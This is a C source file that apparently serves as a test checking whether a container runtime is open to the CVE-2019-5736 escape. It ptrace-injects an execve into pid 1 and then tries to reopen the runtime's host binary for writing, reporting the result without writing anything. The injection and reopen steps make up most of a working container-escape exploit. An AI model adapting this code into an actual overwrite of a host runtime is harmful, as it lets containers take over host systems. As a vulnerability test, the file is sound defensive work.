/*
 * CVE-2019-5736, performed from inside a container whose pid 1 runs wrun's
 * own executable (the --init reaper): hold an O_PATH handle on /proc/1/exe,
 * make pid 1 exec something else (ptrace, injecting an execve), then reopen
 * the handle for writing. On a vulnerable runtime the reopen gives a
 * writable descriptor on the runtime's binary on the host.
 *
 * Nothing is ever written. Prints one line and exits 0 when the reopen is
 * refused (or the file is sealed against writes), 1 when it is granted, 2
 * when the attack could not be set up.
 *
 * Built at test time: gcc -static -O2 exe_attack.c -o exe_attack
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ptrace.h>
#include <sys/user.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int comm_is(const char *want) {
    char buf[64] = {0};
    int fd = open("/proc/1/comm", O_RDONLY);
    if (fd < 0) return 0;
    ssize_t n = read(fd, buf, sizeof buf - 1);
    close(fd);
    if (n > 0 && buf[n - 1] == '\n') buf[n - 1] = 0;
    return strcmp(buf, want) == 0;
}

int main(void) {
    int handle = open("/proc/1/exe", O_PATH | O_CLOEXEC);
    if (handle < 0) { printf("setup: open /proc/1/exe: %s\n", strerror(errno)); return 2; }

    if (ptrace(PTRACE_ATTACH, 1, 0, 0) < 0) { printf("setup: ptrace: %s\n", strerror(errno)); return 2; }
    int st;
    if (waitpid(1, &st, __WALL) < 0) { printf("setup: waitpid: %s\n", strerror(errno)); return 2; }
    struct user_regs_struct r;
    if (ptrace(PTRACE_GETREGS, 1, 0, &r) < 0) { printf("setup: getregs: %s\n", strerror(errno)); return 2; }

    /* Pid 1 sits in a system call: the two bytes before its instruction
     * pointer are a `syscall` instruction. Its stack is about to be thrown
     * away by the exec, so the strings go there. */
    unsigned long base = r.rsp & ~7UL;
    union { unsigned long words[16]; char bytes[128]; } mem;
    memset(&mem, 0, sizeof mem);
    strcpy(mem.bytes + 64, "/bin/sleep");
    strcpy(mem.bytes + 80, "sleep");
    strcpy(mem.bytes + 88, "3");
    mem.words[0] = base + 80;
    mem.words[1] = base + 88;
    mem.words[2] = 0;
    for (int i = 0; i < 16; i++) {
        if (ptrace(PTRACE_POKEDATA, 1, (void *)(base + 8 * i), (void *)mem.words[i]) < 0) {
            printf("setup: poke: %s\n", strerror(errno));
            return 2;
        }
    }
    r.rip -= 2;
    r.rax = 59; /* execve */
    r.orig_rax = -1;
    r.rdi = base + 64;
    r.rsi = base;
    r.rdx = 0;
    if (ptrace(PTRACE_SETREGS, 1, 0, &r) < 0) { printf("setup: setregs: %s\n", strerror(errno)); return 2; }
    if (ptrace(PTRACE_DETACH, 1, 0, 0) < 0) { printf("setup: detach: %s\n", strerror(errno)); return 2; }

    struct timespec tick = {0, 10 * 1000 * 1000};
    int i;
    for (i = 0; i < 200 && !comm_is("sleep"); i++) nanosleep(&tick, NULL);
    if (i == 200) { printf("setup: pid 1 did not exec\n"); return 2; }

    char path[64];
    snprintf(path, sizeof path, "/proc/self/fd/%d", handle);
    int w = open(path, O_WRONLY | O_CLOEXEC);
    if (w < 0) { printf("refused: %s\n", strerrorname_np(errno)); return 0; }
    int seals = fcntl(w, F_GET_SEALS);
    if (seals >= 0 && (seals & F_SEAL_WRITE)) { printf("sealed\n"); return 0; }
    printf("VULNERABLE: pid 1's executable opened for writing\n");
    return 1;
}
